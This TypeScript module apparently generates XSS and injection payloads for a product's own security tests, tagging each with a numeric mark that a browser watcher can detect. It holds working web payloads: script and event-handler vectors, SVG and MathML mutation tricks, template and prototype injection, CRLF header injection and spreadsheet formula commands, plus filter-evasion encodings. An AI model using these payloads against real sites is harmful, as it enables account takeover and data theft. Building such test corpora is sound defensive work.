/** A hostile text: `write` puts a number into it, so that whatever runs tells which one it was. */
export interface Payload {
  /** Vector, place it breaks out of, and disguise. */
  name: string
  write(mark: number): string
}

type Vector = (run: string, mark: number) => string

/** What a payload does when it runs; each is noticed in its own way (tests/browser/xss-watch.ts). */
const calls: readonly ((mark: number) => string)[] = [
  (mark) => `ran(${mark})`,
  (mark) => `alert(${mark})`,
  (mark) => `fetch('/hit/${mark}')`,
  (mark) => `navigator.sendBeacon('/hit/${mark}')`,
]

/** Ways by which text becomes a script, a request or a template. */
const vectors: Record<string, Vector> = {
  script: (run) => `<script>${run}</script>`,
  scriptSource: (_, mark) => `<script src="/hit/${mark}"></script>`,
  scriptData: (run) => `<script src="data:text/javascript,${run}"></script>`,
  scriptModule: (_, mark) => `<script type="module">import('/hit/${mark}')</script>`,
  scriptInSvg: (run) => `<svg><script>${run}</script></svg>`,
  image: (run) => `<img src=x onerror="${run}">`,
  imageSet: (_, mark) => `<img srcset="/hit/${mark} 1x">`,
  picture: (run) => `<picture><source srcset=x><img src=x onerror="${run}"></picture>`,
  svg: (run) => `<svg onload="${run}"></svg>`,
  svgImage: (run) => `<svg><image href=x onerror="${run}"></svg>`,
  svgAnimate: (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  svgSet: (run) => `<svg><set onbegin="${run}" attributeName=x to=y></svg>`,
  svgLink: (run) => `<svg><a href="javascript:${run}"><text y="9">x</text></a></svg>`,
  svgMoved: (run) =>
    `<svg><a><animate attributeName=href values="javascript:${run}"/><text>x</text></a></svg>`,
  svgForeign: (run) => `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
  svgUse: (_, mark) => `<svg><use href="/hit/${mark}#x"/></svg>`,
  math: (run) => `<math><mtext href="javascript:${run}">x</mtext></math>`,
  mathMix: (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror='${run}'>">`,
  styleMix: (run) => `<svg></p><style><a id="</style><img src=x onerror='${run}'>"></svg>`,
  noscript: (run) => `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
  body: (run) => `<body onload="${run}">`,
  bodyPage: (run) => `<body onpageshow="${run}">`,
  details: (run) => `<details open ontoggle="${run}"><summary>x</summary></details>`,
  video: (run) => `<video><source onerror="${run}"></video>`,
  audio: (run) => `<audio src=x onerror="${run}"></audio>`,
  track: (run) => `<video src=x><track default src=x onerror="${run}"></video>`,
  inputFocus: (run) => `<input autofocus onfocus="${run}">`,
  inputImage: (run) => `<input type=image src=x onerror="${run}">`,
  select: (run) => `<select autofocus onfocus="${run}"></select>`,
  textarea: (run) => `<textarea autofocus onfocus="${run}"></textarea>`,
  editable: (run) => `<b contenteditable autofocus onfocus="${run}">x</b>`,
  marquee: (run) => `<marquee onstart="${run}">x</marquee>`,
  animation: (run) =>
    `<style>@keyframes m{}</style><b style="animation:m 1s" onanimationstart="${run}">x</b>`,
  transition: (run) => `<b style="transition:color 1s" onmouseover="${run}" tabindex=0>x</b>`,
  pointer: (run) => `<b style="position:fixed;inset:0" onpointerenter="${run}">x</b>`,
  popover: (run) => `<div popover id=p onbeforetoggle="${run}">x</div><button popovertarget=p>x</button>`,
  frame: (run) => `<iframe src="javascript:${run}"></iframe>`,
  frameInside: (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  frameData: (run) => `<iframe src="data:text/html,<script>parent.${run}</script>"></iframe>`,
  frameLoad: (run) => `<iframe onload="${run}"></iframe>`,
  object: (run) => `<object data="javascript:${run}"></object>`,
  objectError: (run) => `<object data=/ onload="${run}"></object>`,
  embed: (_, mark) => `<embed src="/hit/${mark}">`,
  link: (run) => `<a href="javascript:${run}">x</a>`,
  linkTabbed: (run) => `<a href="java\tscript:${run}">x</a>`,
  linkPing: (_, mark) => `<a href="#" ping="/hit/${mark}">x</a>`,
  form: (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  formaction: (run) => `<form><button formaction="javascript:${run}">x</button></form>`,
  refresh: (_, mark) => `<meta http-equiv="refresh" content="0;url=/hit/${mark}">`,
  base: (_, mark) => `<base href="https://elsewhere.invalid/hit/${mark}/">`,
  stylesheet: (_, mark) => `<link rel="stylesheet" href="/hit/${mark}">`,
  preload: (_, mark) => `<link rel="preload" as="image" href="/hit/${mark}">`,
  styleImport: (_, mark) => `<style>@import "/hit/${mark}";</style>`,
  styleBackground: (_, mark) => `<b style="background:url(/hit/${mark})">x</b>`,
  styleEscape: (_, mark) => `x{}*{background:url(/hit/${mark})}`,
  styleExpression: (run) => `width:expression(${run})`,
  tableBackground: (_, mark) => `<table background="/hit/${mark}"><tr><td>x</table>`,
  shadow: (run) => `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
  custom: (run) => `<x-y tabindex=0 autofocus onfocus="${run}">x</x-y>`,
  comment: (run) => `<!--><img src=x onerror="${run}">-->`,
  cdata: (run) => `<![CDATA[<script>${run}</script>]]>`,
  instruction: (run) => `<?xml-stylesheet href="javascript:${run}"?><img src=x onerror="${run}">`,
  addressScript: (run) => `javascript:${run}//`,
  addressData: (run) => `data:text/html,<script>${run}</script>`,
  addressPacked: (run, mark) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}#${mark}`,
  addressForeign: (_, mark) => `//elsewhere.invalid/hit/${mark}`,
  templateBraces: (run) => `{{constructor.constructor("${run}")()}}`,
  templateDollar: (run) => `\${${run}}`,
  templatePercent: (run) => `<%= ${run} %>`,
  templateHash: (run) => `#{${run}}`,
  icuSelect: (run) => `{x, select, other {<img src=x onerror="${run}">}}`,
  icuPlural: (run, mark) => `{${mark}, plural, one {<b onclick="${run}">#</b>} other {#}}`,
  icuTag: (run) => `<a>{author}</a>'{'<script>${run}</script>'}'`,
  icuBroken: (run) => `{reference, select, <svg onload="${run}">`,
  nestedKey: (run) => `$t(case.title, {"reference": "<img src=x onerror=${run}>"})`,
  markdownLink: (run) => `[x](javascript:${run})`,
  markdownImage: (_, mark) => `![x](/hit/${mark})`,
  markdownAuto: (run) => `<javascript:${run}>`,
  markdownNamed: (run) => `[x]\n\n[x]: javascript:${run}`,
  markdownFence: (run) => `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  jsonEnd: (run) => `"}],"html":"<img src=x onerror=${run}>`,
  jsonPrototype: (run) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  element: (run) => `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}}}`,
  stringEnd: (run) => `';${run};'`,
  stringEndDouble: (run) => `";${run};"`,
  stringEndTick: (run) => `\`;${run};\``,
  header: (run) => `x\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
  manyLanguages: (run) => `'"--></style></title></script><svg onload=${run}>{{${run}}}javascript:${run}//`,
  formula: (run) => `=HYPERLINK("javascript:${run}","x")`,
  formulaPlus: (_, mark) => `+WEBSERVICE("/hit/${mark}")`,
  formulaMinus: (_, mark) => `-1+cmd|'/C ${mark}'!A0`,
  formulaAt: (_, mark) => `@SUM(1+${mark})*cmd|'/C x'!A0`,
}

/** What a payload ends before it begins, because it may stand inside it. */
const enclosures: Record<string, (payload: string) => string> = {
  text: (payload) => payload,
  doubleQuotes: (payload) => `">${payload}`,
  singleQuotes: (payload) => `'>${payload}`,
  noQuotes: (payload) => ` >${payload}`,
  handler: (payload) => `" autofocus onfocus="ran(0)" x=${payload}`,
  comment: (payload) => `-->${payload}`,
  title: (payload) => `</title>${payload}`,
  textarea: (payload) => `</textarea>${payload}`,
  style: (payload) => `</style>${payload}`,
  script: (payload) => `</script>${payload}`,
  cdata: (payload) => `]]>${payload}`,
  option: (payload) => `</option></select>${payload}`,
  template: (payload) => `</template>${payload}`,
  svg: (payload) => `</text></svg>${payload}`,
  json: (payload) => `"}}${payload}`,
  words: (payload) => `Die Laterne ist dunkel. ${payload} Danke!`,
}

/** How it is written so that a look at the letters misses it. Digits stay, so that a mark can be found again. */
const disguises: Record<string, (payload: string) => string> = {
  none: (payload) => payload,
  mixedCase: (payload) =>
    payload.replace(/<\/?[a-z-]+/gi, (tag) =>
      tag.replace(/[a-z]/gi, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)),
    ),
  slashes: (payload) => payload.replace(/(<[a-z]+) /gi, '$1/'),
  lineBreaks: (payload) => payload.replace(/(<[a-z]+) /gi, '$1\n\t'),
  unclosed: (payload) => payload.replace(/>$/, ' '),
  doubled: (payload) => payload.replaceAll('<', '<<'),
  nested: (payload) => payload.replace('script', 'scr<script>ipt').replace('onerror', 'ononerrorerror'),
  entities: (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  entitiesDecimal: (payload) =>
    payload.replaceAll('<', '&#60').replaceAll('>', '&#62').replaceAll('"', '&#34'),
  entitiesHex: (payload) => payload.replaceAll('<', '&#x3c;').replaceAll('>', '&#x3E;'),
  entitiesTwice: (payload) => payload.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  entityInAddress: (payload) => payload.replaceAll('javascript:', 'java&Tab;script&colon;'),
  percent: (payload) => payload.replaceAll('<', '%3C').replaceAll('>', '%3E').replaceAll('"', '%22'),
  percentTwice: (payload) => payload.replaceAll('<', '%253C').replaceAll('>', '%253E'),
  codePoints: (payload) => payload.replaceAll('<', '\\u003c').replaceAll('>', '\\u{3e}'),
  hex: (payload) => payload.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  fullWidth: (payload) =>
    payload.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e').replaceAll('"', '\uff02'),
  oldEncoding: (payload) => payload.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  zeroWidth: (payload) => payload.replace(/<([a-z])/gi, '<\u200b$1'),
  backwards: (payload) => `\u202e${payload}\u202c`,
  isolated: (payload) => `\u2067${payload}\u2069\u061c`,
  lineSeparator: (payload) => `\u2028${payload}\u2029`,
  byteOrder: (payload) => `\ufeff${payload}`,
  combining: (payload) => payload.replaceAll('>', '>\u0338'),
}

/** So many payloads, all different, each vector, enclosure and disguise among them about as often as any other of its kind. */
export function createPayloads(count: number): Payload[] {
  const [ways, ends, looks] = [vectors, enclosures, disguises].map(Object.keys) as [
    string[],
    string[],
    string[],
  ]
  const payloads = new Map<string, Payload>()
  for (let step = 0; payloads.size < count; step += 1) {
    // The first round is every vector plain; then the three lists turn at their own pace.
    const round = Math.floor(step / ways.length)
    const way = ways[step % ways.length] ?? ''
    const end = ends[round === 0 ? 0 : (step + round) % ends.length] ?? ''
    const look = looks[round === 0 ? 0 : (step * 7 + round) % looks.length] ?? ''
    if (round > ends.length * looks.length) throw new Error(`There are only ${payloads.size} payloads.`)
    const call = calls[(step + round) % calls.length] ?? String
    const write = (mark: number) =>
      disguises[look]?.(enclosures[end]?.(vectors[way]?.(call(mark), mark) ?? '') ?? '') ?? ''
    payloads.set(write(111_111), { name: `${way}, ${end}, ${look}`, write })
  }
  return [...payloads.values()]
}

/** Hands payloads out to the fields of the product, each time with a number of its own. */
export interface Dealer {
  /** The next payload that fits into `most` UTF-16 code units, the least used first. */
  deal(field: string, most?: number): string
  /** Words that a door refused are not waited for. */
  refused(...words: string[]): void
  /** Numbers given to each field, without the refused. */
  fields(): Map<string, number[]>
  /** Names of the payloads and fields behind numbers. */
  explain(marks: Iterable<number>): string[]
  /** How many different payloads are behind these numbers. */
  different(marks: Iterable<number>): number
}

const firstMark = 100_000
const markPattern = /1\d{5}/g

/** The numbers of payloads that stand in a text. */
export function marksIn(text: string): number[] {
  return (text.match(markPattern) ?? []).map(Number)
}

/** Builds a dealer over a corpus. */
export function createDealer(corpus: readonly Payload[]): Dealer {
  const waiting = [...corpus]
  const dealt: { field: string; payload: Payload; refused: boolean }[] = []
  const dealtAs = (mark: number) => dealt[mark - firstMark]
  return {
    deal(field, most = 4000) {
      const mark = firstMark + dealt.length
      const at = waiting.findIndex((payload) => payload.write(mark).length <= most)
      const [payload] = at < 0 ? [] : waiting.splice(at, 1)
      if (payload === undefined) throw new Error(`No payload fits into ${most} characters.`)
      waiting.push(payload)
      dealt.push({ field, payload, refused: false })
      return payload.write(mark)
    },
    refused(...words) {
      for (const mark of words.flatMap(marksIn)) {
        const one = dealtAs(mark)
        if (one) one.refused = true
      }
    },
    fields() {
      const fields = new Map<string, number[]>()
      for (const [index, { field, refused }] of dealt.entries()) {
        const marks = fields.get(field) ?? []
        if (!refused) marks.push(firstMark + index)
        fields.set(field, marks)
      }
      return fields
    },
    explain: (marks) =>
      [...marks].map((mark) => `${mark}: ${dealtAs(mark)?.payload.name} in ${dealtAs(mark)?.field}`),
    different: (marks) => new Set([...marks].map((mark) => dealtAs(mark)?.payload)).size,
  }
}
